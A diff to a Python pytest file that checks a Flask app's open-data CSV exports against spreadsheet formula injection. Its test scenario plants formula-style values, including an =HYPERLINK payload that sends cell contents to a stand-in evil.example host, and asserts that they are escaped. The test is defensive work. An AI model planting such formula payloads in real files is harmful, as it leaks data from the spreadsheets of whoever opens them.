@@ -4,13 +4,21 @@ import csv
 import io
 import json
 from collections.abc import Iterator
+from uuid import UUID
 
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
 
+from application.csv_files import FORMULA_STARTS
 from application.demo import ACTIONS, PROPOSALS
+from application.dialogues import DialogueApp
+from domain.roles import Role
+from tests.builders import ACCOUNTS, DAY, MEMBERS, Scenario
+from tests.web.conftest import make_web_app
 from tests.web.public_site import MAIN, demo_site
+from web import close_app
+from web.opendata import SECTIONS
 
 
 @pytest.fixture(scope="module")
@@ -24,7 +32,8 @@ def client(site: Flask) -> FlaskClient:
 
 
 def rows(client: FlaskClient, section: str) -> list[dict[str, str]]:
-    response = client.get(f"{MAIN}/open-data/{section}.csv")
+    """The rows of a CSV table: ``section`` names one of the demo's main dialogue, or is a path."""
+    response = client.get(section if section.startswith("/") else f"{MAIN}/open-data/{section}.csv")
     assert response.status_code == 200
     assert response.content_type == "text/csv; charset=utf-8"
     assert response.headers["Content-Disposition"].startswith("attachment; filename=")
@@ -66,3 +75,92 @@ def test_the_page_lists_the_downloads_and_the_licence(client: FlaskClient) -> No
     assert f'href="{MAIN}/open-data.json"' in html
     assert f'href="{MAIN}/open-data/proposals.csv"' in html
     assert "Licence Ouverte" in html
+    assert "jamais comme une formule" in html  # what the CSV tables do with formulas (French by default)
+
+
+class Hostile(Scenario):
+    """The scenario, its instances named and its proposals titled as formulas."""
+
+    def _instance(self, kind: str, name: str, members: list[str]) -> UUID:
+        return super()._instance(kind, f"@{name}", members)
+
+    def _draft(self, author: str, title: str) -> UUID:
+        return super()._draft(author, f'=HYPERLINK("http://evil.example/?"&A1,"{title}")')
+
+
+def hostile_dialogue(app: DialogueApp) -> set[str]:
+    """A dialogue taken to an action, a text starting with each formula character in every table."""
+    scenario = Hostile(app, slug="hostile")
+    scenario.to_collective_work()
+    texts = {"meeting": "=1+1", "place": "-2+3", "reason": "@SUM(A1:A9)", "body": "=Conseil"}
+    texts |= {"reference": "-DEL-1", "justification": "+10 % only", "action": "+33 5 49 00 00 00"}
+    texts |= {"organisation": "@Syndicat"}
+    app.schedule_meeting(
+        scenario.facilitator,
+        scenario.id,
+        instance_id=scenario.consultation_group(),
+        title=texts["meeting"],
+        starts_at=f"{DAY}T18:30",
+        place=texts["place"],
+        agenda=["diagnostic"],
+    )
+    app.withdraw_proposal(MEMBERS[0], scenario.id, scenario.objected_proposal(), reason=texts["reason"])
+    proposal_id = scenario.presented()
+    app.adopt_decision(
+        ACCOUNTS[Role.DECISION_MAKER],
+        scenario.id,
+        body="conseil_municipal",
+        body_name=texts["body"],
+        deliberation_reference=texts["reference"],
+        adopted_on=DAY,
+        votes={"for": 20, "against": 3, "abstentions": 2},
+        outcomes=[
+            {
+                "proposal_id": proposal_id,
+                "outcome": "adopted_with_changes",
+                "justification": texts["justification"],
+            }
+        ],
+    )
+    action_id = app.create_action(
+        scenario.convenor,
+        scenario.id,
+        proposal_id=proposal_id,
+        title=texts["action"],
+        description="d",
+        due_on=DAY,
+    ).id
+    operator = ACCOUNTS[Role.OPERATOR]
+    app.assign_operator(
+        scenario.convenor, scenario.id, action_id, operator_id=operator, organisation="@Syndicat"
+    )
+    return {*texts.values(), "@Comité de pilotage", "@Groupe eau"}
+
+
+def test_no_cell_of_the_csv_tables_is_a_formula_for_a_spreadsheet(database_url: str) -> None:
+    """OWASP: a text starting with = + - @ (tab, CR) gets a ' in front; numbers stay; JSON as typed."""
+    site = make_web_app(database_url)
+    try:
+        texts = hostile_dialogue(site.extensions["dialogues"])
+        client = site.test_client()
+        tables = {
+            section: rows(client, f"/dialogues/hostile/open-data/{section}.csv") for section in SECTIONS
+        }
+        document = client.get("/dialogues/hostile/open-data.json").get_data(as_text=True)
+    finally:
+        close_app(site)
+
+    cells = {value for table in tables.values() for row in table for value in row.values()}
+    assert not [value for value in cells if value.startswith(FORMULA_STARTS)]
+    assert {f"'{text}" for text in texts} <= cells
+    assert all(table for table in tables.values()), "every table has rows"
+    proposals = {p["status"]: p for p in tables["proposals"]}
+    assert proposals["withdrawn"]["title"].startswith("'=HYPERLINK(")
+    assert proposals["withdrawn"]["withdrawal_reason"] == "'@SUM(A1:A9)"
+    assert proposals["adopted_with_changes"]["endorsements"] == "2"  # counts are written as numbers
+    assert tables["actions"][0]["progress_percent"] == "0"
+    assert tables["outcomes"][0]["adopted_on"] == DAY
+    assert tables["composition"][0]["members"].isdigit()
+    assert all(
+        json.dumps(text, ensure_ascii=False) in document for text in texts
+    )  # the JSON keeps them as typed
